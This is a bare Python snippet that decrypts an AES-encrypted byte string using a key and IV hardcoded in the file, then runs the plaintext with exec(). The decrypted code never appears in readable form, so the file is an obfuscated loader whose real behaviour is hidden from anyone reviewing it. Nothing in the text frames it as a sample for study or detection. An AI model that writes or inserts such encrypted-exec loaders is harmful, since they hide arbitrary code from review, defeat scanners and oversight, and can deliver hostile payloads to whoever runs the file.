from Crypto.Cipher import AES
from Crypto.Util.Padding import unpad
cipher = AES.new(b'0123456789abcdef', AES.MODE_CBC, b'fedcba9876543210')
exec(unpad(cipher.decrypt(b'\xa1>\xe7f\xdaq\xdf;\x8a\xe1 \xefu3\x8c\xa8\xe6\xed\xaa\xea0shK\xd2u\xec\xe5\xb9W\xa2\xb4\x16\xcc\xb1\x04\x1e\xe4k\xf4\x88yI\xd2\xb2\xa3\x94\r'), 16))
